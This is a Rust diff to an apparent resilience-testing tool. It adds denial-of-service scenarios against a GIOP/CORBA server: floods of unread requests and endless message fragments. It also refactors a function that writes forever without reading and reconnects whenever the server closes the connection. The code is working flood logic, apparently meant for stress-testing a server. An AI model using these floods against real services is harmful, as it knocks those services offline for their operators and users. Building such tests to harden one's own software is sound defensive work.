@@ -82,6 +82,27 @@ impl Attack {
                     memory_flood(stop, address, &start, n, body)
                 }));
             }
+            Scenario::UnreadReplies => {
+                let request: Arc<[u8]> =
+                    wire::octet_sequence_request(key, sizes.unread_request)?[..].into();
+                for _ in 0..sizes.unread_connections.max(1) {
+                    let request = Arc::clone(&request);
+                    spawn(Box::new(move |stop| {
+                        send_forever(stop, address, &[], &request, "requests_sent")
+                    }));
+                }
+            }
+            Scenario::FragmentFlood => {
+                // The fragment's body: the request id and a multiple of 8.
+                let body = sizes.fragment_size.max(16) / 8 * 8 - 4;
+                for id in 1..=sizes.fragment_connections.max(1) as u32 {
+                    let first = wire::first_fragment(key, id)?;
+                    let next: Arc<[u8]> = wire::fragment(id, body)?[..].into();
+                    spawn(Box::new(move |stop| {
+                        send_forever(stop, address, &first, &next, "fragments_sent")
+                    }));
+                }
+            }
             Scenario::IdleFlood(n) | Scenario::HalfHeaderFlood(n) => {
                 let opening: &'static [u8] = match scenario {
                     Scenario::HalfHeaderFlood(_) => b"GIOP\x01\x02",
@@ -134,7 +155,12 @@ impl Attack {
                 let batch: Arc<[u8]> = batch.into();
                 for _ in 0..sizes.cancel_connections.max(1) {
                     let batch = Arc::clone(&batch);
-                    spawn(Box::new(move |stop| cancel_flood(stop, address, &batch)));
+                    spawn(Box::new(move |stop| {
+                        let mut d = send_forever(stop, address, &[], &batch, "batches_sent");
+                        let batches = d.remove("batches_sent").and_then(|v| v.as_u64());
+                        count(&mut d, "messages_sent", batches.unwrap_or(0) * 4096);
+                        d
+                    }));
                 }
             }
         }
@@ -446,12 +472,20 @@ fn churn(stop: &Stop, address: SocketAddr, times: &Mutex<Recorder>) -> Details {
     d
 }
 
-/// Sends `CancelRequest`s back to back on one connection, connecting
-/// again when the server closes it.
-fn cancel_flood(stop: &Stop, address: SocketAddr, batch: &[u8]) -> Details {
+/// On one connection, sends `first` and then `each` over and over,
+/// never reading, until the attack ends; connects again when the server
+/// closes the connection. Counts the `each` sent whole as `what`.
+fn send_forever(
+    stop: &Stop,
+    address: SocketAddr,
+    first: &[u8],
+    each: &[u8],
+    what: &str,
+) -> Details {
     let mut d = Details::new();
-    let mut sent = 0u64;
+    let mut whole = 0u64;
     let mut conn: Option<TcpStream> = None;
+    // Octets of `first` then `each` sent so far on this connection.
     let mut at = 0usize;
     while !stop.is_set() {
         let Some(s) = conn.as_mut() else {
@@ -468,10 +502,18 @@ fn cancel_flood(stop: &Stop, address: SocketAddr, batch: &[u8]) -> Details {
             }
             continue;
         };
-        match s.write(&batch[at..]) {
+        let chunk = if at < first.len() {
+            &first[at..]
+        } else {
+            &each[(at - first.len()) % each.len().max(1)..]
+        };
+        match s.write(chunk) {
             Ok(k) => {
-                sent += k as u64;
-                at = (at + k) % batch.len();
+                at += k;
+                if at >= first.len() + each.len() {
+                    at -= each.len();
+                    whole += 1;
+                }
             }
             Err(e) if is_timeout(&e) => {}
             Err(_) => {
@@ -480,6 +522,6 @@ fn cancel_flood(stop: &Stop, address: SocketAddr, batch: &[u8]) -> Details {
             }
         }
     }
-    count(&mut d, "messages_sent", sent / 16);
+    count(&mut d, what, whole);
     d
 }
